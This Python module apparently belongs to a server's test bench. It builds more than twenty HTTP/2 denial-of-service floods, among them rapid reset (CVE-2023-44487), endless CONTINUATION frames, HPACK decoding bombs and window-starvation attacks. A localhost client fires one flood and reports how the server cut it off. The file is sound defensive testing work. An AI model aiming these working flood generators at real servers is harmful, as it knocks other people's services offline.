"""What a hostile client of HTTP/2 may send, and a process that sends one kind of it.

    python -m bench.http2_attacks NAME PORT SECONDS

It sends as fast as the server takes it, connects again whenever it is cut off, and says as a line
of JSON how its connections ended; see `Outcome`.
"""

import json
import os
import select
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import asdict, dataclass, field
from itertools import cycle, islice, repeat
from typing import Final

from bench.grpc_frames import PATH, WIDE, data, frame, headers, opening, request

from sprocket.base.units import KIB, MIB
from sprocket.rocketmq.codec.grpc.schema import SERVICE
from sprocket.rocketmq.codec.grpc.standard_messages import ServerReflectionRequest
from sprocket.runtime.http2 import ErrorCode, frames, trailers_block
from sprocket.runtime.http2.frames import ACK, END_HEADERS, END_STREAM, FrameType, Setting

CLIENT: Final = "hostile"
USUAL: Final = request(f"{PATH}SendMessage", CLIENT)
ASKING: Final = request("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", CLIENT)
CUT_OFF: Final = "cut off"
"""How a connection ended for which there was no GOAWAY."""
CALM, UNREADABLE = ErrorCode.ENHANCE_YOUR_CALM.name, ErrorCode.COMPRESSION_ERROR.name
PIECE_BYTES: Final = 64 * KIB
"""About how much is given to the socket at once."""
SELECT_SECONDS: Final = 0.05
QUESTION: Final = ServerReflectionRequest(file_containing_symbol=SERVICE).SerializeToString()
"""Of 40 bytes; its answer has many KiB."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Flood:
    """One kind.

    Attributes:
        name: What it is called.
        frames: Gives frames for one connection, for ever.
        ends: How the server must end each connection: the name of an error code, or `CUT_OFF`; None
            if it may also hold the client back, or serve it.
        growth_mib_max: What the server may take for it.
        window: The client's window, of each stream.
        reads: Whether it takes what it is sent.
    """

    name: str
    frames: Callable[[], Iterator[bytes]]
    ends: str | None = CALM
    growth_mib_max: float = 24.0
    window: int = WIDE
    reads: bool = True


@dataclass(slots=True)
class Outcome:
    """What became of an attack.

    Attributes:
        connections: How many there were.
        sent_bytes: How much the server took.
        ends: How often each end was seen.
    """

    connections: int = 0
    sent_bytes: int = 0
    ends: dict[str, int] = field(default_factory=dict)


def numbers() -> Iterator[int]:
    """Give the numbers of a client's streams."""
    return iter(range(1, frames.STREAM_MAX, 2))


def begin_streams() -> Iterator[bytes]:
    """Calls that never send their request."""
    return (headers(number, USUAL) for number in numbers())


def begin_messages() -> Iterator[bytes]:
    """Requests of 60 MiB, on several streams, none of which is ever whole."""
    said = struct.pack(">BI", 0, 60 * MIB)
    for number in range(1, 17, 2):
        yield headers(number, USUAL) + frame(FrameType.DATA, 0, number, said)
    part = bytes(16 * KIB)
    for number in cycle(range(1, 17, 2)):
        yield frame(FrameType.DATA, 0, number, part)


def grow_message() -> Iterator[bytes]:
    """A request of 32 MiB that comes in large parts, and then a byte at a time."""
    yield headers(1, USUAL)
    yield frame(FrameType.DATA, 0, 1, struct.pack(">BI", 0, 60 * MIB))
    yield from repeat(frame(FrameType.DATA, 0, 1, bytes(16 * KIB)), 2 * KIB)
    yield from repeat(frame(FrameType.DATA, 0, 1, b"x"))


def on_one_stream(again: bytes) -> Callable[[], Iterator[bytes]]:
    """Return what sends a frame again and again beside a call that is open."""

    def given() -> Iterator[bytes]:
        yield headers(1, USUAL)
        yield from repeat(again)

    return given


def reset_at_once() -> Iterator[bytes]:
    """Calls that are taken back at once (CVE-2023-44487)."""
    code = struct.pack(">I", ErrorCode.CANCEL)
    for number in numbers():
        yield headers(number, USUAL) + frame(FrameType.RST_STREAM, 0, number, code)


def with_blocks(*blocks: bytes) -> Callable[[], Iterator[bytes]]:
    """Return what begins calls with these header blocks in turn; their requests are empty."""

    def given() -> Iterator[bytes]:
        for number, block in zip(numbers(), cycle(blocks), strict=False):
            yield headers(number, block, END_HEADERS | END_STREAM)

    return given


def continue_headers(part: bytes) -> Callable[[], Iterator[bytes]]:
    """Return what begins a header block that never ends (CVE-2024-27316)."""

    def given() -> Iterator[bytes]:
        yield headers(1, USUAL, 0)
        yield from repeat(frame(FrameType.CONTINUATION, 0, 1, part))

    return given


def huffman(octets: bytes) -> bytes:
    """Return a field's value, packed."""
    import hpack

    return hpack.Encoder().encode([("x", octets)], huffman=True)


def many_settings() -> bytes:
    """Return one SETTINGS frame that changes the window of all streams thousands of times."""
    both = (struct.pack(">HI", Setting.INITIAL_WINDOW_SIZE, size) for size in cycle((1, 2)))
    return frame(FrameType.SETTINGS, 0, 0, b"".join(islice(both, 10_000)))


def with_streams(again: bytes, count: int = 1_000) -> Callable[[], Iterator[bytes]]:
    """Return what sends a frame again and again beside many open calls."""

    def given() -> Iterator[bytes]:
        for number in islice(numbers(), count):
            yield headers(number, USUAL)
        yield from repeat(again)

    return given


def ask_at_length() -> Iterator[bytes]:
    """Questions of 60 bytes with answers of many KiB, all on one stream: what is served here?"""
    yield headers(1, ASKING)
    yield from repeat(data(1, QUESTION))


def open_by_little() -> Iterator[bytes]:
    """A thousand answers that wait for windows, which open by little."""
    for number in islice(numbers(), 1_000):
        yield headers(number, ASKING) + data(number, QUESTION)
    yield from repeat(frame(FrameType.WINDOW_UPDATE, 0, 0, frames.U32.pack(100)))


_FIELDS: Final = [(f"a{number}", "") for number in range(400)]
_LONG: Final = ("long", "x" * 3_900)
_KEPT: Final = b"\x40" + trailers_block([_LONG])[1:]
"""A field that goes to the table."""
_AGAIN: Final = b"\xbe"
"""The newest field of the table."""

FLOODS: Final = (
    Flood(name="streams", frames=begin_streams),
    Flood(name="unfinished messages", frames=begin_messages, ends=None, growth_mib_max=192.0),
    Flood(name="a message byte by byte", frames=grow_message, growth_mib_max=128.0),
    Flood(
        name="header list too long",
        frames=with_blocks(USUAL + trailers_block([_LONG] * 5)),
    ),
    Flood(
        name="header list as long as may be",
        frames=with_blocks(request("/no.Service/Method", CLIENT, *_FIELDS)),
    ),
    Flood(name="CONTINUATION, empty", frames=continue_headers(b"")),
    Flood(name="CONTINUATION, long", frames=continue_headers(bytes(16_000))),
    Flood(name="DATA, empty", frames=on_one_stream(frame(FrameType.DATA, 0, 1))),
    Flood(
        name="DATA of a byte",
        frames=on_one_stream(frame(FrameType.DATA, 0, 1, b"\0")),
    ),
    Flood(name="rapid reset", frames=reset_at_once),
    Flood(name="SETTINGS", frames=on_one_stream(frame(FrameType.SETTINGS, 0, 0))),
    Flood(name="SETTINGS, 10,000 in a frame", frames=with_streams(many_settings())),
    Flood(name="PING", frames=on_one_stream(frame(FrameType.PING, 0, 0, bytes(8)))),
    Flood(
        name="PRIORITY",
        frames=on_one_stream(frame(FrameType.PRIORITY, 0, 1, b"\0\0\0\3\0")),
    ),
    Flood(name="unknown frames", frames=on_one_stream(frame(99, 0, 1))),
    Flood(
        name="HPACK: one field many times",
        frames=with_blocks(USUAL + _KEPT, USUAL + _AGAIN * 1_000),
    ),
    Flood(
        name="HPACK: a number without end",
        frames=with_blocks(b"\xff" * 16_000 + b"\x01"),
        ends=UNREADABLE,
    ),
    Flood(
        name="HPACK: table sizes",
        frames=with_blocks(b"\x20" * 15_000 + USUAL),
        ends=UNREADABLE,
    ),
    Flood(
        name="HPACK: Huffman",
        frames=with_blocks(request("/no.Service/Method", CLIENT) + huffman(b"0" * 14_000)),
    ),
    Flood(
        name="windows at zero",
        frames=ask_at_length,
        ends=CUT_OFF,
        growth_mib_max=128.0,
        window=0,
    ),
    Flood(
        name="windows opened by little",
        frames=open_by_little,
        window=0,
        growth_mib_max=64.0,
    ),
    Flood(name="a slow reader", frames=ask_at_length, ends=None, reads=False),
)
"""All of them."""
BY_NAME: Final[Mapping[str, Flood]] = {flood.name: flood for flood in FLOODS}


def pieces(parts: Iterable[bytes]) -> Iterator[bytes]:
    """Join parts to pieces that are worth a system call."""
    kept: list[bytes] = []
    size = 0
    for part in parts:
        kept.append(part)
        size += len(part)
        if size >= PIECE_BYTES:
            yield b"".join(kept)
            kept, size = [], 0


class Attacker:
    """Sends one flood.

    Args:
        flood: Which.
        port: Of a server on this machine.
    """

    def __init__(self, flood: Flood, port: int) -> None:
        self._flood = flood
        self._port = port
        self._ends: Counter[str] = Counter()
        self._connections = self._sent_bytes = 0

    def run(self, seconds: float) -> Outcome:
        """Attack for a while."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            with socket.create_connection(("127.0.0.1", self._port)) as connection:
                self._connections += 1
                end = _Connection(connection, self._flood).run(deadline)
                self._sent_bytes += end.sent_bytes
                if end.how:
                    self._ends[end.how] += 1
        return Outcome(self._connections, self._sent_bytes, dict(self._ends))


class _Connection:
    """One connection of an attacker.

    Attributes:
        how: How it ended; empty while it has not.
        sent_bytes: What the server took.
    """

    def __init__(self, connection: socket.socket, flood: Flood) -> None:
        connection.setblocking(False)
        self._socket = connection
        self._flood = flood
        self._pending = memoryview(opening(flood.window))
        self._pieces = pieces(flood.frames())
        self._data = b""
        self.how = ""
        self.sent_bytes = 0

    def run(self, deadline: float) -> "_Connection":
        """Send until it has ended, or until a time."""
        reads = [self._socket] if self._flood.reads else []
        while not self.how and time.monotonic() < deadline:
            readable, writable, _ = select.select(reads, [self._socket], [], SELECT_SECONDS)
            if readable:
                self._read()
            if writable and not self.how:
                self._write()
        return self

    def _write(self) -> None:
        if not self._pending:
            self._pending = memoryview(next(self._pieces))
        try:
            sent = self._socket.send(self._pending)
        except BlockingIOError:
            return
        except OSError:
            self._drain()
            return
        self.sent_bytes += sent
        self._pending = self._pending[sent:]

    def _drain(self) -> None:
        """Read what the server said before it was gone."""
        while not self.how:
            self._read()

    def _read(self) -> None:
        try:
            data = self._socket.recv(MIB)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self.how = CUT_OFF
            return
        self._take(self._data + data)

    def _take(self, data: bytes) -> None:
        """Look at frames until one says that this is the end; keep what is not whole."""
        at = 0
        while len(data) - at >= frames.HEAD_BYTES:
            size, kind, flags, _ = frames.read_head(data, at)
            start = at + frames.HEAD_BYTES
            if len(data) - start < size:
                break
            if kind == FrameType.GOAWAY:
                self.how = ErrorCode(frames.U32.unpack_from(data, start + 4)[0]).name
                return
            if kind == FrameType.SETTINGS and not flags & ACK:
                self._pending = memoryview(bytes(self._pending) + frames.SETTINGS_ACK)
            at = start + size
        self._data = data[at:]


def main() -> None:
    """Attack, and say how it went."""
    name, port, seconds = sys.argv[1:]
    os.nice(5)  # who measures goes first
    outcome = Attacker(BY_NAME[name], int(port)).run(float(seconds))
    print(json.dumps(asdict(outcome)))


if __name__ == "__main__":
    main()
